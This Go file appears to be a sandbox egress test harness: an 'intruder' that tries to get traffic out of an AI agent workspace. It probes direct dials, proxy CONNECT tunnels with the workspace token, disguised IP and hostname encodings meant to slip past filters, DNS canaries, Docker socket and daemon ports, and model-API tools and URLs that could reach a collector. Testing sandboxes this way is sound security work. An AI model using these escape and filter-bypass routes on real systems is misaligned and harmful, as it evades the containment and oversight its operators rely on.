package main

import (
	"bufio"
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"time"

	"sam/sandbox/hostile/orders"
)

// knock is what every connection of the intruder's says, so that whoever listens knows it.
const knock = "GET /knock HTTP/1.1\r\nHost: intruder\r\n\r\n"

func connect(network, address string) (net.Conn, error) {
	return (&net.Dialer{Timeout: 3 * time.Second}).DialContext(context.Background(), network, address)
}

// dial connects, knocks and returns what came back, or why not.
func dial(network, address string) string {
	conn, err := connect(network, address)
	if err != nil {
		return err.Error()
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(3 * time.Second))
	_, _ = io.WriteString(conn, knock)
	said, _ := bufio.NewReader(conn).ReadString('\n')
	return "CONNECTED " + strings.TrimSpace(said)
}

// through asks the proxy of the workspace for a tunnel to an address, and knocks if it gets one.
func (i *intruder) through(address string) string {
	proxy := os.Getenv("HTTPS_PROXY")
	at, err := url.Parse(proxy)
	if proxy == "" || err != nil {
		// Without one its address is that of the brokers.
		at, err = url.Parse(os.Getenv("ANTHROPIC_BASE_URL"))
		if err != nil {
			return "no proxy: " + err.Error()
		}
	}
	conn, err := connect("tcp", at.Host)
	if err != nil {
		return "proxy: " + err.Error()
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
	credentials := base64.StdEncoding.EncodeToString([]byte("sam:" + i.token()))
	fmt.Fprintf(conn, "CONNECT %s HTTP/1.1\r\nHost: %s\r\nProxy-Authorization: Basic %s\r\n\r\n", address, address, credentials)
	reader := bufio.NewReader(conn)
	status, err := reader.ReadString('\n')
	if err != nil {
		return "proxy: " + err.Error()
	}
	if strings.Contains(status, " 200 ") {
		_, _ = io.WriteString(conn, knock)
		_, _ = reader.ReadString('\n')
	}
	return "CONNECT: " + strings.TrimSpace(status)
}

// plain asks the proxy for a page over plain HTTP.
func (i *intruder) plain(address string) string {
	at, err := url.Parse(os.Getenv("HTTP_PROXY"))
	if err != nil || at.Host == "" {
		return "no HTTP_PROXY"
	}
	client := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{Proxy: http.ProxyURL(at)}}
	response, err := client.Get("http://" + address + "/knock") //nolint:noctx // the client has a time limit
	if err != nil {
		return err.Error()
	}
	defer response.Body.Close()
	return "GET: " + response.Status
}

// reach tries an address directly and by the proxy, in the ways that a filter may have missed.
func (i *intruder) reach(address string) orders.Report {
	host, port, err := net.SplitHostPort(address)
	if err != nil {
		return unable("%v", err)
	}
	all := []string{dial("tcp", address), i.through(address), i.plain(address)}
	if ip := net.ParseIP(host).To4(); ip != nil {
		number := uint32(ip[0])<<24 | uint32(ip[1])<<16 | uint32(ip[2])<<8 | uint32(ip[3])
		for _, other := range []string{
			"::ffff:" + host, "64:ff9b::" + host, fmt.Sprint(number), fmt.Sprintf("0x%08x", number), host + ".", fmt.Sprintf("%d.%d", ip[0], number&0xffffff),
		} {
			all = append(all, i.through(net.JoinHostPort(other, port)))
		}
		if ip.IsLoopback() {
			for _, other := range []string{"localhost", "LOCALHOST.", "0.0.0.0", "::1", "::"} {
				all = append(all, i.through(net.JoinHostPort(other, port)))
			}
		}
	} else {
		for _, other := range []string{host + ".", strings.ToUpper(host), "registry.npmjs.org@" + host, host + "#registry.npmjs.org"} {
			all = append(all, i.through(net.JoinHostPort(other, port)))
		}
		_, err := net.LookupHost("canary-dns." + host) //nolint:noctx // the resolver has a time limit
		all = append(all, fmt.Sprint("DNS: ", err))
	}
	return tried("%s: %s", address, strings.Join(all, "; "))
}

// engine looks for the container engine's socket.
func (i *intruder) engine() orders.Report {
	var all []string
	for _, path := range []string{"/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/proc/1/root/run/docker.sock"} {
		all = append(all, path+": "+dial("unix", path))
	}
	found, _ := filepath.Glob("/run/**/*.sock")
	for _, port := range []string{"2375", "2376"} {
		for _, host := range []string{"127.0.0.1", "172.17.0.1"} {
			all = append(all, dial("tcp", net.JoinHostPort(host, port)), i.through(net.JoinHostPort(host, port)))
		}
	}
	return tried("%s; sockets %v", strings.Join(all, "; "), found)
}

// nodePorts tries the services that run beside the node.
func (i *intruder) nodePorts() orders.Report {
	var all []string
	for name, address := range i.Targets {
		if !strings.HasPrefix(name, "port-") {
			continue
		}
		all = append(all, name+": "+dial("tcp", address)+", "+i.through(address))
	}
	if len(all) == 0 {
		return unable("no ports were named")
	}
	return tried("%s", strings.Join(all, "; "))
}

// modelWaysOut asks the model's servers to reach for an address.
func (i *intruder) modelWaysOut() orders.Report {
	address := "http://" + i.Targets["collector"] + "/knock"
	plain := `{"model":"claude-opus-5-5","max_tokens":10,"messages":[{"role":"user","content":"scenario noop ` + i.Mark + `-plain"}]}`
	first, err := i.model(plain, "v1/messages")
	if err != nil {
		return unable("%v", err)
	}
	all := []string{"plain: " + first}
	for _, ask := range []string{
		`"tools":[{"type":"web_search_20250305","name":"web_search"}]`, `"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]`,
		`"tools":[{"type":"code_execution_20250825","name":"code_execution"}]`, `"mcp_servers":[{"type":"url","name":"m","url":"` + address + `"}]`,
		`"container":{"skills":[]}`, `"tools":[],"\u0074ools":[{"type":"web_fetch_20250910","name":"web_fetch"}]`,
		`"system":[{"type":"image","source":{"type":"url","url":"` + address + `"}}]`, `"system":[{"type":"document","source":{"type":"file","file_id":"f"}}]`,
	} {
		body := `{"model":"claude-opus-5-5","max_tokens":10,"messages":[{"role":"user","content":"` + i.Mark + `"}],` + ask + `}`
		status, err := i.model(body, "v1/messages?beta=true")
		if err != nil {
			return unable("%v", err)
		}
		all = append(all, status)
	}
	for _, path := range []string{"v1/files", "v1/messages/batches", "v1/skills", "v1/organizations/me", "v1/messages/../files"} {
		status, err := i.model(`{"x":"`+i.Mark+`"}`, path)
		if err != nil {
			return unable("%v", err)
		}
		all = append(all, path+": "+status)
	}
	return tried("%s", strings.Join(all, "; "))
}

func (i *intruder) model(body, path string) (string, error) {
	request, err := http.NewRequest(http.MethodPost, os.Getenv("ANTHROPIC_BASE_URL")+"/"+path, strings.NewReader(body)) //nolint:noctx // the client has a time limit, and asks what it likes
	if err != nil {
		return "", err
	}
	for name, value := range map[string]string{
		"X-Api-Key": i.token(), "Content-Type": "application/json", "Anthropic-Version": "2023-06-01",
		"Anthropic-Beta": "mcp-client-2025-11-20,files-api-2025-04-14,code-execution-2025-08-25,skills-2025-10-02",
	} {
		request.Header.Set(name, value)
	}
	client := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{}}
	response, err := client.Do(request)
	if err != nil {
		return "", err
	}
	defer response.Body.Close()
	return response.Status, nil
}

// listen answers whoever connects, and prints who did: it is the neighbour.
func listen(address string) {
	l, err := net.Listen("tcp", address) //nolint:noctx // until it is killed
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	for {
		conn, err := l.Accept()
		if errors.Is(err, net.ErrClosed) {
			return
		}
		if err != nil {
			continue
		}
		fmt.Fprintln(os.Stdout, "hit from", conn.RemoteAddr())
		_, _ = io.WriteString(conn, "HTTP/1.1 204 No Content\r\n\r\n")
		_ = conn.Close()
	}
}
